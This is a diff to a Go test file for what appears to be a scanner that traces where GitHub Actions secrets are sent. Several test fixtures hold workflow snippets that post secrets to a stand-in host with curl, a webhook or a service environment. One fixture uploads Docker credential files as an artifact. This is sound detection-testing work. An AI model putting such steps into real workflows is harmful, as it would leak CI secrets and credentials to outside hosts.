@@ -58,10 +58,13 @@ func TestValuesFlow(t *testing.T) {
 		"a command for an action":   {oneJob + "    steps:\n      - uses: example/retry@v3\n        env: {A: \"${{ secrets.S }}\"}\n        with: {command: \"curl -d x=$A https://d.example.invalid/p\"}\n", "d.example.invalid=S"},
 		"a webhook's message": {oneJob + "    steps:\n      - uses: example/webhook@v3\n        with: {webhook-url: \"https://d.example.invalid/p\", data: \"${{ toJSON(secrets) }}\"}\n",
 			"d.example.invalid=*"},
-		"a comment":                  {oneJob + "    steps:\n      - uses: example/create-or-update-comment@v4\n        with: {issue-number: 1, token: \"${{ github.token }}\", body: \"${{ secrets.S }}\"}\n", "comment>1=S"},
-		"no secret in the comment":   {oneJob + "    steps:\n      - uses: example/create-or-update-comment@v4\n        with: {token: \"${{ secrets.S }}\", body: done}\n", ""},
-		"an argument of an image":    {oneJob + "    steps:\n      - uses: docker/build-push-action@v6\n        with: {push: true, tags: a/b, build-args: \"T=${{ secrets.S }}\"}\n", "registry>a/b=S"},
-		"not stored in the image":    {oneJob + "    steps:\n      - uses: docker/build-push-action@v6\n        with: {push: true, tags: a/b, secrets: \"T=${{ secrets.S }}\"}\n", ""},
+		"a comment":                {oneJob + "    steps:\n      - uses: example/create-or-update-comment@v4\n        with: {issue-number: 1, token: \"${{ github.token }}\", body: \"${{ secrets.S }}\"}\n", "comment>1=S"},
+		"no secret in the comment": {oneJob + "    steps:\n      - uses: example/create-or-update-comment@v4\n        with: {token: \"${{ secrets.S }}\", body: done}\n", ""},
+		"an argument of an image":  {oneJob + "    steps:\n      - uses: docker/build-push-action@v6\n        with: {push: true, tags: a/b, build-args: \"T=${{ secrets.S }}\"}\n", "registry>a/b=S"},
+		"not stored in the image":  {oneJob + "    steps:\n      - uses: docker/build-push-action@v6\n        with: {push: true, tags: a/b, secrets: \"T=${{ secrets.S }}\"}\n", ""},
+		"what a service is told": {oneJob + "    services: {relay: {image: a/b, env: {TO: https://d.example.invalid/p, ALL: \"${{ toJSON(secrets) }}\"}}}\n    steps: [{run: make}]\n",
+			"d.example.invalid=*"},
+		"a service's own password":   {oneJob + "    services: {db: {image: postgres, env: {PASSWORD: \"${{ secrets.S }}\"}}}\n    steps: [{run: make}]\n", ""},
 		"a context in the log":       {oneJob + "    steps:\n      - uses: example/dump-context@v2\n", "log>=+context"},
 		"credentials in an artifact": {oneJob + "    steps:\n      - uses: actions/upload-artifact@v4\n        with: {name: logs, path: \"~/.docker/config.json\"}\n", "artifact>logs=+files"},
 	} {
@@ -252,8 +255,11 @@ func TestBrokenFiles(t *testing.T) {
 		"a tab":               {strings.Replace(body, "    runs-on", "\truns-on", 1), true, 8},
 		"an alias of nothing": {body + "x: *none\n", true, 8},
 		"a key twice":         {strings.Replace(body, "    steps:", "    steps: [{run: make}]\n    steps:", 1), true, 9},
-		"no job":              {strings.Replace(body, "jobs:", "job:", 1), true, 8},
-		"open brackets":       {"x: [\n" + body, true, 9},
+		"steps of a newer kind": {body[:strings.Index(body, "      - run")] +
+			"      - parallel:\n        - env: {X: \"${{ secrets.S }}\"}\n          run: curl -d \"x=$X\" https://d.example.invalid/p\n", true, 8},
+		"an action's file": {"runs:\n  using: composite\n  steps:\n    - shell: bash\n      env: {X: \"${{ secrets.S }}\"}\n      run: |\n        echo\n        curl -d \"x=$X\" https://d.example.invalid/p\n", true, 8},
+		"no job":           {strings.Replace(body, "jobs:", "job:", 1), true, 8},
+		"open brackets":    {"x: [\n" + body, true, 9},
 	} {
 		f := Parse([]byte(c.text))
 		if got := sent(f); got != "d.example.invalid=S" || (f.Partial != "") != c.partial || f.Destinations[0].Line != c.line {
